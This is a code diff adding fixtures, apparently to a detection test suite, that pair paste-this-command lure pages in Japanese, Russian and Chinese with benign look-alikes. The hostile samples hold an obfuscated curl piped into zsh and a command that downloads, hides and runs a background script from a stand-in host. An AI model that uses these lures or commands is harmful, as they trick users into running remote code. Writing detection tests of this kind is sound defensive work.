@@ -112,9 +112,46 @@ const TESTS = pairs([
   ],
 ])
 
+const page = (text: string, command: string): Uint8Array =>
+  Buffer.from(
+    `<!DOCTYPE html><html><meta charset="utf-8"><body><p>${text}</p><pre id="c">${command}</pre><button onclick="navigator.clipboard.writeText(c.innerText)">Copy</button></body></html>`,
+  )
+const note = (command: string): Uint8Array =>
+  Buffer.from(
+    `Your camera is blocked.\r\n1. Open Terminal.\r\n2. Copy both lines, paste them and press Return:\r\n${command}\r\n`,
+  )
+const CODED_FETCH = `curl -kfsSL $(echo '${btoa('https://files.example/get?b=4')}'|base64 -D)|zsh`
+const BREW = '/bin/bash -c "$(curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh)"'
+const stays = (path: string): string =>
+  `curl -s -k https://files.example/a.sh -o ${path};\r\nchmod +x ${path}; nohup bash ${path} >/dev/null 2>&1 &`
+const TOLD = pairs([
+  [
+    'Japanese',
+    page('「ターミナル」と入力して開き、コマンドをコピーして貼り付けます。', `echo "Installer" && ${CODED_FETCH}`),
+    page('「ターミナル」を開き、コマンドをコピーして貼り付けます。', BREW),
+  ],
+  [
+    'Russian',
+    page('Откройте Терминал, скопируйте и вставьте команду.', CODED_FETCH),
+    page('Откройте Терминал, скопируйте и вставьте команду.', 'sudo softwareupdate --install --all'),
+  ],
+  [
+    'Chinese',
+    page('打开终端，复制并粘贴命令。', CODED_FETCH),
+    page('打开终端，复制并粘贴命令。', 'defaults write com.apple.dock autohide -bool true; killall Dock'),
+  ],
+  ['a script that goes on', note(stays('/var/tmp/a.sh')), note('curl -s https://files.example/a.sh -o ./a.sh')],
+  [
+    'a script in a shared folder',
+    note(stays('/Users/Shared/a.sh')),
+    note('curl -s https://files.example/server -o server;\r\nchmod +x server; nohup ./server >server.log 2>&1 &'),
+  ],
+])
+
 export const ADMINISTRATION: Readonly<Record<string, readonly Pair[]>> = {
   'shortcuts to a file server': SHORTCUTS,
   'hidden windows of a logon script': LOGON,
   'installers beside an exclusion': INSTALLERS,
   'tests with commands of attackers': TESTS,
+  'commands for a terminal': TOLD,
 }
